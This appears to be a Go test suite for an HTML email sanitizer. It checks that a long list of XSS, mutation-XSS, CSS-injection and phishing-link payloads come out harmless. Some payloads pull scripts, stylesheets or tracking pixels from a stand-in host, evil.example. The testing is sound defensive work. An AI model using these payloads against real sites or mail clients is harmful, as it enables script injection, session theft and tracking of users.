package mail

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// checkSanitized parses the output as a browser would and looks at every element and attribute.
func checkSanitized(t *testing.T, in string, opts SanitizeOptions) string {
	t.Helper()
	out := Sanitize(in, opts)
	if again := Sanitize(out, opts); again != out {
		t.Errorf("not a fixed point:\n in   %.300q\n out  %.300q\n then %.300q", in, out, again)
	}
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Errorf("output cannot be parsed: %v", err)
		return out
	}
	walkNodes(find(doc, bodyAtom), func(n *html.Node) bool {
		if n.Type == html.CommentNode {
			t.Errorf("comment in %.300q", out)
		}
		if n.Type != html.ElementNode || n.Data == "body" {
			return true
		}
		if !allowedElement[n.Data] || n.Namespace != "" {
			t.Errorf("<%s> in %.300q", n.Data, out)
		}
		for _, a := range n.Attr {
			checkAttr(t, n.Data, a, opts, out)
		}
		return true
	})
	return out
}

func checkAttr(t *testing.T, element string, a html.Attribute, opts SanitizeOptions, out string) {
	t.Helper()
	low := strings.ToLower(squeezeURL(a.Val))
	switch a.Key {
	case "href":
		if element != "a" || !(strings.HasPrefix(low, "http://") || strings.HasPrefix(low, "https://") || strings.HasPrefix(low, "mailto:") || strings.HasPrefix(low, "tel:")) {
			t.Errorf("href %q in %.300q", a.Val, out)
		}
	case "src":
		if !(strings.HasPrefix(low, "data:image/") && !strings.Contains(low, "svg") || strings.HasPrefix(low, "/files/") || opts.Remote && strings.HasPrefix(low, "http")) {
			t.Errorf("src %q in %.300q", a.Val, out)
		}
	case "style":
		for _, bad := range []string{"url", "expression", "position", "\\", "import", "behavior", "javascript", "var(", "/*", "fixed"} {
			if strings.Contains(low, bad) && !strings.Contains(low, "font-family") {
				t.Errorf("style %q in %.300q", a.Val, out)
			}
		}
	case "data-remote-src", "data-cid", "target", "rel", "referrerpolicy":
	default:
		if attributes[a.Key] == nil {
			t.Errorf("%s=%q in %.300q", a.Key, a.Val, out)
		}
	}
}

const bodyAtom = atom.Body

// hostile are attacks that must come out harmless, after the collections that sanitisers are tried with.
var hostile = []string{
	`<script>alert(1)</script>hello`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img/src="x"/onerror=alert(1)>`,
	"<img src=`javascript:alert(1)`>",
	`<img """><script>alert(1)</script>">`,
	`<body onload=alert(1)>x`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><x/>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="java&#09;script:alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="&#1;javascript:alert(1)">x</a>`,
	`<a href=" &#14;  javascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="/logout">x</a><a href="logout">x</a><a href="?x">x</a><a href="#x">x</a><a href="\\evil.example">x</a>`,
	`<a href="blob:https://evil.example/1">x</a><a href="intent://x">x</a><a href="ms-msdt:/id">x</a>`,
	`<a href="https://a.example" target="_self" rel="opener" onclick=alert(1) ping="https://evil.example">x</a>`,
	`<a href="https://">x</a><a href="http:evil">x</a><a href="https://a b">x</a>`,
	`<div hx-get="/x" hx-trigger="load" data-hx-post="/y" hx-on:click="alert(1)" sse-connect="/z" data-sse-swap="q" x-data="{}">x</div>`,
	`<div id="messages" class="modal open" name="x" tabindex=1 accesskey=x contenteditable autofocus slot=x part=x is=x>x</div>`,
	`<desk-message src="x"></desk-message>`,
	`<form action="https://evil.example"><input type=password name=p autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>`,
	`<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example">`,
	`<base href="https://evil.example/"><a href="x">x</a>`,
	`<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>`,
	`<p style="background:url(https://evil.example/x)">x</p>`,
	`<p style="background-image:u\rl(https://evil.example/x)">x</p>`,
	`<p style="background:\75\72\6c(https://evil.example/x)">x</p>`,
	`<p style="width:expression(alert(1))">x</p><p style="width:ex/**/pression(alert(1))">x</p>`,
	`<p style="-moz-binding:url(x);behavior:url(x);content:url(x);cursor:url(x);list-style:url(x);filter:x">x</p>`,
	`<p style="background:image-set('https://evil.example/x' 1x)">x</p><p style="color:var(--x);--x:url(x)">x</p>`,
	`<p style="margin-top:-9999px;text-indent:-9999px;margin:0 -50vw">x</p><p style="width:99999px;font-size:100vw">x</p>`,
	`<p style="color:red&quot;><img src=x onerror=alert(1)>">x</p>`,
	`<p style="font-family:'x;position:fixed'">x</p>`,
	`<img src="https://evil.example/p.gif" srcset="https://evil.example/p2.gif 2x" sizes=1 loading=eager longdesc="https://evil.example">`,
	`<img src="//evil.example/p.gif"><img src="/logout"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x">`,
	`<img data-remote-src="javascript:alert(1)"><img data-remote-src="/logout"><img data-cid="x&quot;onerror=alert(1)"><img src="cid:&quot;><script>">`,
	`<img dynsrc="https://evil.example/x" lowsrc="https://evil.example/x">`,
	`<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>`,
	`<video poster="https://evil.example/x" src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio><track src=x>`,
	`<table background="https://evil.example/x"><td background="https://evil.example/y" bgcolor="red;x">x</td></table>`,
	`<input type=image src="https://evil.example/x"><isindex><keygen><marquee onstart=alert(1)>x</marquee>`,
	`<blockquote cite="https://evil.example/x">x</blockquote><q cite="javascript:x">x</q>`,
	`<svg><image href="https://evil.example/x"/><use href="https://evil.example/x#y"/><animate attributeName=href values=javascript:alert(1) /></svg>`,
	`<details open ontoggle=alert(1)>x</details><dialog open>x</dialog>`,
	`<p>unclosed <b>bold <i>both</b> italic <table><p>foster</p><td>cell`,
	`</p></div></body></html><script>alert(1)</script>`,
	`<a href="https://a.example"><a href="https://b.example">nested</a></a>`,
	`<table><a href="https://a.example">x<table>y</table>`,
	`<p><pre>

x</pre><select><option>y</select>`,
	"<a\x00 href=\"java\x00script:alert(1)\">x</a>\x00<scr\x00ipt>alert(1)</script>",
	"<p title=\"\xff\xfe\">\xc0\xbcscript\xc0\xbe</p>",
	`<img alt="` + "`" + `onerror=alert(1)">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<ul><li>a<li>b</ul><dl><dt>x<dd>y</dl><h1>a<h2>b`,
}

func TestSanitizeHostile(t *testing.T) {
	for _, s := range hostile {
		checkSanitized(t, s, SanitizeOptions{})
		checkSanitized(t, s, SanitizeOptions{Remote: true, CID: func(string) string { return "/files/1" }})
		checkSanitized(t, s, SanitizeOptions{Leads: true})
	}
}

// Where links are to say where they lead, their sender has no word in it.
func TestSanitizeSaysWhereLinksLead(t *testing.T) {
	const rest = ` target="_blank" rel="noopener noreferrer nofollow" title="https://evil.example/x"`
	for words, want := range map[string]string{
		"our shop":                           "our shop",
		"https://bank.example/login":         "https://bank.example/login [evil.example]",
		" <b>www.Bank.example</b> ":          " <b>www.Bank.example</b>  [evil.example]",
		"bank<b>.exam</b>ple":                "bank<b>.exam</b>ple [evil.example]",
		"https://bank.example@evil.example/": "https://bank.example@evil.example/",
		"https://www.evil.example/x?y=1":     "https://www.evil.example/x?y=1",
		"EVIL.example":                       "EVIL.example",
		"1.5":                                "1.5",
		`<img alt="a" title="bank.example">`: `<img alt="a"/>`,
	} {
		in := `<p title="t"><a href="https://evil.example/x" title="https://bank.example">` + words + `</a></p>`
		if got, want := checkSanitized(t, in, SanitizeOptions{Leads: true}), `<p><a href="https://evil.example/x"`+rest+`>`+want+`</a></p>`; got != want {
			t.Errorf("%s\n got  %s\n want %s", words, got, want)
		}
	}
	if got := checkSanitized(t, `<a href="mailto:li@shop.example" title="x">shop.example</a>`, SanitizeOptions{Leads: true}); strings.Contains(got, "[") || !strings.Contains(got, `title="mailto:li@shop.example"`) {
		t.Error(got)
	}
}

// TestSanitizeKeeps: what is harmless stays.
func TestSanitizeKeeps(t *testing.T) {
	opts := SanitizeOptions{CID: func(cid string) string {
		if cid == "gone" {
			return ""
		}
		return "/files/" + cid
	}}
	for _, c := range []struct{ in, want string }{
		{`<p style="COLOR: Red; position:fixed; margin:0 0 1em">a</p>`, `<p style="color: red; margin: 0 0 1em">a</p>`},
		{`<p style="font-family:'Microsoft YaHei',微软雅黑,Arial;background:#fff !important">a</p>`, `<p style="font-family: &#39;microsoft yahei&#39;,微软雅黑,arial; background: #fff">a</p>`},
		{`<a href="https://a.example/?x=1&y=2" title="t">a</a>`, `<a title="t" href="https://a.example/?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">a</a>`},
		{`<a href="mailto:a@b.example">a</a>`, `<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">a</a>`},
		{`<a href="//a.example/x">a</a>`, `<a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">a</a>`},
		{`<img src="http://a.example/x.png" alt="x" width="20">`, `<img alt="x" width="20" data-remote-src="http://a.example/x.png"/>`},
		{`<img src="cid:a%40b"><img src="cid:gone">`, `<img data-cid="a@b" src="/files/a@b"/><img data-cid="gone"/>`},
		{`<img src="data:image/png;base64,AAAA">`, `<img src="data:image/png;base64,AAAA"/>`},
		{`<font color=red size=2 face="Arial">a</font><center>b</center>`, `<font color="red" face="Arial" size="2">a</font><center>b</center>`},
		{`<table border=0 cellpadding="0"><tr><td colspan=2 align=center bgcolor="#eee">a</td></tr></table>`, `<table border="0" cellpadding="0"><tbody><tr><td colspan="2" align="center" bgcolor="#eee">a</td></tr></tbody></table>`},
		{`<blockquote type="cite">a</blockquote>`, `<blockquote type="cite">a</blockquote>`},
		{`a &lt; b &amp; c`, `a &lt; b &amp; c`},
	} {
		if got := checkSanitized(t, c.in, opts); got != c.want {
			t.Errorf("%s\n got  %s\n want %s", c.in, got, c.want)
		}
	}
}

// TestSanitizeRemote: pictures load when the reader asked for them, and say nothing of the page they stand on.
func TestSanitizeRemote(t *testing.T) {
	held := Sanitize(`<img src="https://a.example/x.png">`, SanitizeOptions{})
	if !HasRemote(held) || HasRemote(Sanitize(`<p>data-remote-src="x"</p>`, SanitizeOptions{})) {
		t.Errorf("remote pictures not told: %s", held)
	}
	if got := Sanitize(held, SanitizeOptions{Remote: true}); got != `<img src="https://a.example/x.png" referrerpolicy="no-referrer"/>` {
		t.Errorf("got %s", got)
	}
}

// TestSanitizeTooDeep: nesting beyond sense is shown as words.
func TestSanitizeTooDeep(t *testing.T) {
	got := checkSanitized(t, strings.Repeat("<div>", 600)+"deep <b>words</b>"+strings.Repeat("</div>", 600), SanitizeOptions{})
	if got != "<div>deep words</div>" {
		t.Errorf("got %.200s", got)
	}
	long := checkSanitized(t, strings.Repeat("<p>word</p>\n", maxTags), SanitizeOptions{})
	if !strings.Contains(long, "word") || len(long) > maxHTML {
		t.Errorf("%d bytes", len(long))
	}
}
